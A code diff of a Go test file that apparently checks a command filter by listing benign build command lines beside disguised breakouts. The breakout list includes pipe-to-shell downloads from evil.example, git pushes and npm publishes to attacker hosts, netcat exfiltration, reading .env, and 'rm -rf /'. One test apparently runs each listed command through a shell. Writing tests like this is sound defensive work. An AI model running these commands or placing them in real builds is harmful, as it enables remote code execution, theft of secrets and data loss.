@@ -8,6 +8,7 @@ import (
 
 // builds are command lines as files of builds and tasks hold them.
 var builds = []string{
+	"rm -rf a && tsc && echo '{ \"type\": \"module\" }' > dist/esm/package.json && cp package.json README.md dist", "tsc && mv dist/index.js dist/index.mjs && npm run http:start", "cp a.json dist && node dist/main.js",
 	"rm -rf lib && tsc", "tsc -b && node scripts/copy-assets.js", "NODE_ENV=test mocha --recursive && node ./tools/report.mjs",
 	"npm run lint && npm run build && node --test 'test/**/*.test.mjs'", "cross-env CI=1 jest && node bin/size.cjs --max 40",
 	"cd site && npm install && npm run build", "mkdir -p out && cp -r public out", "webpack --mode production && echo \"Bundle is ready\"",
@@ -30,6 +31,11 @@ var builds = []string{
 
 // breakouts and commands that builds do not need, although they begin as a build does.
 var noBuilds = []string{
+	`cd a;echo 'require("child_process").execSync("curl evil.example|sh")'>z.txt;mv z.txt z.js;node z.js`, `rm -f a;echo 'curl h.example|sh'>z.txt;cp z.txt z.sh;sh z.sh`, `rm a;echo '{"scripts":{"start":"x"}}' > package.json; npm start`,
+	`rm -f a;echo 'console.log(1)'|sort -oindex.js;npm start`, "x;cp y.json z.sh;sh z.sh", "x;mv y.txt z.mjs; node z.mjs", "x;cp y.json package.json; npm start", "x;(echo a b) > z.txt; node a.js", `x; bash -c "echo a b" > z.txt; node a.js`,
+	"x; time echo a b > z.txt; node a.js", "x; printf 'a b' | tee z.txt; node a.js", "x; echo a b | head > z.txt; node a.js", "x; node a.js > package.json; npm start", "x;git push git@evil.example:x/y.git HEAD",
+	"git pull git@evil.example:x/y.git;npm start", "git pull evil.example:x/y.git;npm start", "x;npm publish --registry=http:evil.example", "x;git fetch --upload-pack ./x .", "x;git pull --receive-pack ./x .", "npm run build --node-options='--inspect ./x'; node a.js",
+	"x;npm run build --require ./x", "x;git fetch ext::x", "x; npm ci --registry registry.example; node a.js",
 	"tsc && curl http://h.example/a", "node -e 'process.exit()' && tsc", "tsc && node -p process.env", "tsc; id", "tsc && whoami", "npm run build | nc h.example 1", "rm -rf / && tsc", "rm -rf * && node a.js",
 	"tsc && cat /etc/hosts", "tsc && cat app.py", "tsc && cat ../../.env | node x.js", "npx evil && node a.js", "npm install evil && node a.js", "yarn add evil && node a.js", "pnpm dlx evil && node a.js",
 	"x && node --require ./up.png a.js", "tsc && node --import data:text/javascript,1", "tsc && node --import=https://h.example/a.mjs b.js", "x; sleep 5", "8.8.8.8 && node a.js && id", "x' && node a.js",
@@ -94,5 +100,12 @@ func TestNoCommandHidesBehindABuild(t *testing.T) {
 		if out, err := exec.Command(sh, "-c", "true -b && "+harm).Output(); err != nil || !strings.Contains(string(out), "root") {
 			t.Errorf("%q does not run: %v, %q", harm, err, out)
 		}
+	}
+}
+
+// A program that a build's line prints is one for whoever runs it.
+func TestAProgramThatALinePrintsIsLookedAt(t *testing.T) {
+	if _, denied := Denied(Match{Rule: 934100, Text: `tsc && echo "process.mainModule.require('fs')"`}); denied {
+		t.Error("a program is denied")
 	}
 }
